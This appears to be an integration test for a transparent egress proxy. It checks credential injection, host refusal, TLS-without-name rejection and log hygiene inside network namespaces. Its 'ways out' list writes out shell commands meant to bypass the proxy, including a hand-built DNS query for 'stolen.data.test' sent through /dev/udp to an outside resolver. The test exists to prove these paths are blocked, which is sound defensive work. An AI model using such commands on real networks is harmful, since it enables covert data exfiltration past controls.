// docs/transparent.md, with its own rules: three network namespaces, real clients, the real executable. Needs root.
import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { blocks, read } from "../docs/pages.ts";
import { compiledCode } from "../helpers/checkout.ts";
import { makeCa, makeLeaf } from "../helpers/pki.ts";
import type { AuditLine } from "./harness/audit-log.ts";
import { Canary } from "./harness/canary.ts";
import { main } from "./harness/sallyport.ts";
import { eventually, pause } from "./harness/wait.ts";
import { addresses, type Network, noNetwork, openNetwork, type Running } from "./netns/network.ts";

const skip = noNetwork();
const noDig = spawnSync("dig", ["-v"]).status === 0 ? false : "this machine has no dig";
const page = blocks(read("docs/transparent.md"));
const config = page.find(({ language }) => language === "yaml")?.text ?? "";
const [gatewayRules = "", sameMachineRules = ""] = page
  .filter(({ text }) => text.startsWith("table inet"))
  .map(({ text }) => text);

const folder = mkdtempSync(join(tmpdir(), "sallyport-netns-"));
const upstreamCa = makeCa();
const proxyCa = makeCa();
const auditFile = join(folder, "audit.log");
let network: Network;
let internet: Running;

before(async () => {
  if (skip !== false) return;
  const leaf = makeLeaf(upstreamCa, ["api.example.com", "other.example.com"]);
  // For clients that are not root.
  chmodSync(folder, 0o755);
  writeFileSync(join(folder, "ca.crt"), proxyCa.certPem);
  writeFileSync(join(folder, "ca.key"), proxyCa.keyPem, { mode: 0o600 });
  writeFileSync(join(folder, "roots.crt"), upstreamCa.certPem);
  writeFileSync(join(folder, "proxy.yaml"), `${config}audit: {file: ${auditFile}}\n`);
  network = openNetwork();
  const script = new URL("netns/internet.ts", import.meta.url).pathname;
  internet = await network.start("internet", process.execPath, [script], {
    env: {
      INTERNET_CERT: leaf.certPem,
      INTERNET_KEY: leaf.keyPem,
      INTERNET_A: addresses.internet.ip4,
      INTERNET_AAAA: addresses.internet.ip6,
    },
    until: /ready/,
  });
});

after(async () => {
  await network?.close();
  rmSync(folder, { recursive: true, force: true });
});

const canary = new Canary();
const credential = canary.secret("api-key");

const seen = (from = 0): string[] => internet.output().split("\n").slice(from, -1);
const records = (): AuditLine[] =>
  readFileSync(auditFile, "utf8")
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as AuditLine);

/** What curl prints in the workload's place. */
async function curl(...args: string[]): Promise<string> {
  const { stdout, stderr } = await network.run("workload", "curl", [
    "--silent",
    "--show-error",
    "--max-time",
    "4",
    "--cacert",
    join(folder, "ca.crt"),
    ...args,
  ]);
  canary.search("what curl printed", Buffer.from(stdout + stderr));
  return stdout + stderr;
}

/** Ways past the proxy, each with what the other side would see. */
const waysOut: readonly (readonly [what: string, expected: RegExp, ...command: [string, ...string[]]])[] = [
  ["another port", /^tcp 10\.88\.1\.2$/, "curl", "-s", "-m", "1", "http://10.88.2.2:8080/"],
  ["another port, IPv6", /^tcp fd88:1::2$/, "curl", "-gs", "-m", "1", "http://[fd88:2::2]:8080/"],
  ["QUIC", /^udp 10\.88\.1\.2$/, "bash", "-c", "echo quic > /dev/udp/10.88.2.2/443"],
  ["another resolver", /^dns stolen\.data\.test 10\.88\.1\.2$/, "bash", "-c", dnsQuery()],
];

/** A query to the other side's resolver, with nothing but a shell. */
function dnsQuery(): string {
  return String.raw`printf '\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06stolen\x04data\x04test\0\0\x01\0\x01' > /dev/udp/10.88.2.2/53`;
}

test("before there are rules, every way out is open", { skip }, async () => {
  for (const [what, expected, program, ...args] of waysOut) {
    const from = seen().length;
    // Again and again: the first packets of a new network may be lost.
    const arrived = () => seen(from).some((line) => expected.test(line));
    for (let left = 10; left > 0 && !arrived(); left--) {
      await network.run("workload", program, args);
      await pause(20);
    }
    assert.ok(arrived(), what);
  }
});

test("with the proxy and its rules at the gateway", { skip }, async (t) => {
  network.rules("gateway", gatewayRules);
  const command = [main, "start", "--config", join(folder, "proxy.yaml")];
  const gateway = await network.start("gateway", process.execPath, command, {
    env: { SSL_CERT_FILE: join(folder, "roots.crt"), API_KEY: credential, HOME: folder, ...compiledCode },
    cwd: folder,
    until: /transform pipeline/,
  });
  const key = ["-H", "Authorization: Bearer placeholder"];

  for (const family of ["-4", "-6"]) {
    await t.test(`a request gets there by name, ${family}`, async () => {
      const from = seen().length;
      assert.equal(await curl(family, ...key, "https://api.example.com/"), "the internet\n");
      const arrived = seen(from).find((line) => line.startsWith("https"));
      // Whose connection it is: the gateway's. And with which credential.
      const [, sent, from4or6 = ""] =
        /^https api\.example\.com Bearer (\S+) (\S+)$/.exec(arrived ?? "") ?? [];
      assert.equal(sent, credential);
      assert.match(from4or6, /^(?:10\.88\.2\.1|fd88:2::1)$/);
    });
    await t.test(`and by address, whatever the workload takes for one, ${family}`, async () => {
      const { ip4, ip6 } = addresses.internet;
      const to = family === "-4" ? ip4 : `[${ip6}]`;
      const from = seen().length;
      const pinned = ["--resolve", `api.example.com:443:${to}`];
      assert.equal(await curl(family, ...key, ...pinned, "https://api.example.com/"), "the internet\n");
      assert.ok(seen(from).some((line) => line.startsWith(`https api.example.com Bearer ${credential} `)));
    });
    await t.test(`a refusal can be read, ${family}`, async () => {
      const pinned = ["--resolve", "other.example.com:443:192.0.2.1,[2001:db8::1]"];
      assert.match(
        await curl(family, ...pinned, "https://other.example.com/"),
        /"reason":"host_not_allowed"/,
      );
    });
    await t.test(`plain HTTP goes the same way, ${family}`, async () => {
      assert.equal(await curl(family, "http://api.example.com/"), "the internet\n");
    });
  }

  await t.test("I8: a refused name does not exist, and nobody outside hears of it", async () => {
    const from = seen().length;
    assert.match(await curl("https://other.example.com/"), /Could not resolve host/);
    await eventually("the record", () =>
      records().some(({ audit }) => audit.method === "DNS" && audit.reason === "host_not_allowed"),
    );
    assert.deepEqual(seen(from), []);
  });

  await t.test("attack 16: TLS without a name is refused with an alert, and leaves a record", async () => {
    const from = seen().length;
    assert.match(await curl("-k", `https://${addresses.internet.ip4}/`), /alert|unrecognized name/);
    const record = await eventually("the record", () =>
      records().find(({ audit }) => audit.reason === "tls_name_missing"),
    );
    assert.equal(record.audit.remote_addr.replace(/:\d+$/, ""), addresses.workload.ip4);
    assert.deepEqual(seen(from), []);
  });

  for (const [what, , program, ...args] of waysOut) {
    await t.test(`attack 18: the workload does not get out by ${what}`, async () => {
      const from = seen().length;
      await network.run("workload", program, args);
      // Something that does arrive, so that there was time.
      assert.equal(await curl("https://api.example.com/"), "the internet\n");
      assert.deepEqual(
        seen(from).filter((line) => !/^(?:https|dns) api\.example\.com /.test(line)),
        [],
      );
    });
  }

  await t.test("DNS answers dig over UDP and TCP", { skip: noDig }, async () => {
    const ask = async (...args: string[]) =>
      (await network.run("workload", "dig", ["+short", ...args])).stdout;
    assert.equal(await ask("api.example.com"), "10.88.1.1\n");
    assert.equal(await ask("api.example.com", "AAAA"), "fd88:1::1\n");
    assert.equal(await ask("+tcp", "api.example.com"), "10.88.1.1\n");
    assert.equal(await ask("api.example.com", "HTTPS"), "");
  });

  await t.test("on one machine, rules by user lead that user alone to the proxy", async () => {
    network.rules("gateway", sameMachineRules.replaceAll("agent", "4321"));
    const pinned = `api.example.com:443:${addresses.internet.ip4}`;
    const as = (uid: string) =>
      network.run(
        "gateway",
        "setpriv",
        `--reuid=${uid} --clear-groups curl -sS -m 3 --cacert ${join(folder, "ca.crt")} --resolve ${pinned} https://api.example.com/`.split(
          " ",
        ),
      );
    const agent = await as("4321");
    assert.equal(agent.stdout, "the internet\n", agent.stderr);
    // Others meet the real certificate, which this CA has not issued.
    assert.match((await as("0")).stderr, /certificate/);
    const out = await network.run("gateway", "setpriv", [
      "--reuid=4321",
      "--clear-groups",
      "curl",
      "-sS",
      "-m",
      "2",
      "http://10.88.2.2:8080/",
    ]);
    assert.notEqual(out.code, 0);
  });

  await t.test("I14: no credential is in what the proxy wrote or shows of itself", () => {
    canary.search("the log", Buffer.from(gateway.output()));
    canary.search("the audit", readFileSync(auditFile));
    canary.searchProcess(gateway.child.pid as number);
    canary.check();
  });
});
